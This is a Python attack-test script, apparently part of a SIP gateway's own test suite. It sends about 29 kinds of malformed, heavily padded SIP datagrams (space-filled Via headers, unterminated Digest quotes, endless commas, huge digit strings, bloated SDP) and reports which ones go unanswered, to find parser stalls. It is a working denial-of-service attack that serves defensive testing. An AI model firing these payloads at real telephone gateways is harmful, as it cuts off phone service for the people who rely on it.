"""Somebody without an account who wants the firm's telephones to stop: one datagram at a time, each of them small.

Every datagram is SIP, or nearly, in a shape that makes a careless reader go over it again and again: runs of white
space where some may stand, quotes without an end, parameters without a value, line ends without number.

    python -m tests.attack.stall --gate 127.0.0.1:5060 --host 127.0.0.66 --rounds 3 --gap 0.05

Each round sends every shape once, of 15,900 bytes and of 1,389 (one frame of Ethernet). Prints ``sent``, and the code
that each shape got (0: no answer within ``--wait`` seconds of the end).
"""

from __future__ import annotations

import argparse
import json
import re
import sys
import time
from collections.abc import Iterator

from tests.attack.wire import Wire, address, code_of

LONG, SHORT = 15_900, 1_389

VIA = "Via: SIP/2.0/UDP {own};branch=z9hG4bK{mark};rport"
HEAD = (
    "{method} sip:02079460000@gate.invalid SIP/2.0\r\n{via}\r\nMax-Forwards: 70\r\nFrom: {sender}\r\n"
    "To: <sip:02079460000@gate.invalid>\r\nCall-ID: {mark}\r\nCSeq: 1 {method}\r\n"
    "Contact: <sip:x@{own}>\r\n{more}Content-Length: {length}\r\n\r\n{body}"
)


def filled(size: int, unit: str, **parts: str) -> str:
    """A message of about ``size`` bytes: ``@@`` in one of its parts stands for as many of ``unit`` as it takes."""
    given = {"method": "INVITE", "via": VIA, "sender": "<sip:x@a.invalid>;tag=1", "more": "", "body": ""} | parts
    many = max(1, (size - 450) // len(unit))
    given = {name: value.replace("@@", unit * many) for name, value in given.items()}
    text = HEAD.replace("{length}", str(len(given["body"])))
    for name, value in given.items():
        text = text.replace(f"{{{name}}}", value)
    return text


def shapes(size: int) -> Iterator[tuple[str, str]]:
    """Name and text; ``{mark}`` and ``{own}`` are to be filled in."""
    yield "via and spaces", filled(size, " ", via="Via: SIP/2.0/UDP a@@")
    yield "via, port and spaces", filled(size, " ", via="Via: SIP/2.0/UDP {own} :@@x;branch=z9hG4bK{mark}")
    yield "rport and spaces", filled(size, " ", via=VIA + "=@@x")
    yield "received and spaces", filled(size, " ", via=VIA + ";received@@x")
    yield "second via", filled(size, " ", via=VIA + "\r\nVia: SIP/2.0/UDP b@@;")
    yield "vias", filled(size, ",", via=VIA + "\r\nVia: SIP/2.0/UDP b@@")
    yield "digest letters", filled(size, "a", more="Authorization: Digest @@\r\n")
    yield "digest names", filled(size, "a=", more="Authorization: Digest @@\r\n")
    yield "digest quotes", filled(size, '\\"', more='Authorization: Digest realm="@@\r\n')
    yield "proxy digest spaces", filled(size, " ", more="Proxy-Authorization: Digest a@@b\r\n")
    yield "quotes in from", filled(size, '\\"', sender='"@@ <sip:x@a.invalid>;tag=1')
    yield "quotes in from, each begun anew", filled(size, '"\\', sender="@@<sip:x@a.invalid>;tag=1")
    yield "tag and spaces", filled(size, "; tag ", sender="<sip:x@a.invalid>@@")
    yield "parameters in from", filled(size, ";a", sender="<sip:x@a.invalid>@@;tag=1")
    yield "commas in contact", filled(size, ",", more="Contact: <sip:x@a@@\r\n")
    yield "commas in record-route", filled(size, "<,", more="Record-Route: <sip:a;lr>@@\r\n")
    yield "privacy", filled(size, "; privacy ", more="Remote-Party-ID: <sip:a@b>@@\r\n")
    yield "folds", filled(size, "\r\n ", more="Subject: a@@b\r\n")
    yield "line ends", filled(size, "\n", more="Subject: a@@\r\n")
    yield "headers", filled(size, "a:\r\n", more="@@")
    yield "digits of a length", filled(size, "9", more="Content-Length: @@\r\n")
    yield "digits of hops", filled(size, "9").replace("Max-Forwards: 70", "Max-Forwards: " + "9" * (size - 450))
    yield "a digit that is none", filled(size, " ").replace("Content-Length: 0", "Content-Length: \xb2")
    yield "escapes in the number", filled(size, "%").replace("sip:02079460000@", "sip:" + "%" * (size - 450) + "@", 1)
    yield (
        "line ends in a key",
        filled(size, "\n", method="INFO", more="Content-Type: application/dtmf-relay\r\n", body="@@Signal"),
    )
    yield "lines of SDP", filled(size, "a=\r\n", more="Content-Type: application/sdp\r\n", body="v=0\r\n@@")
    yield (
        "formats of SDP",
        filled(size, " 9", more="Content-Type: application/sdp\r\n", body="v=0\r\nm=audio 4000 RTP/AVP@@\r\n"),
    )
    answer = filled(size, " ", via="Via: SIP/2.0/UDP a@@")
    yield "an answer", "SIP/2.0 200 OK\r\n" + answer.partition("\r\n")[2]
    answer = filled(size, ";a", sender="<sip:x@a.invalid>@@;tag=1")
    yield "an answer's parameters", "SIP/2.0 200 OK\r\n" + answer.partition("\r\n")[2]


def main(argv: list[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--gate", type=address, required=True)
    parser.add_argument("--host", default="127.0.0.66", help="the attacker's own address")
    parser.add_argument("--rounds", type=int, default=1)
    parser.add_argument("--gap", type=float, default=0.0, help="seconds between two datagrams")
    parser.add_argument("--wait", type=float, default=1.0, help="seconds to listen at the end")
    options = parser.parse_args(argv)
    wire, sent, names = Wire(options.host), 0, {}
    for _ in range(options.rounds):
        for size in (LONG, SHORT):
            for name, text in shapes(size):
                mark = f"stall{sent}"
                names[mark] = f"{name}, {size}"
                data = text.replace("{mark}", mark).replace("{own}", f"{wire.host}:{wire.port}").encode("latin-1")
                wire.socket.sendto(data, options.gate)
                sent += 1
                time.sleep(options.gap)
    codes = dict.fromkeys(names.values(), 0)
    while text := wire.receive(options.wait):
        if found := re.search(r"^Call-ID: (stall\d+)\r?$", text, re.MULTILINE):
            codes[names[found[1]]] = code_of(text)
    print(json.dumps({"sent": sent, "codes": codes}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
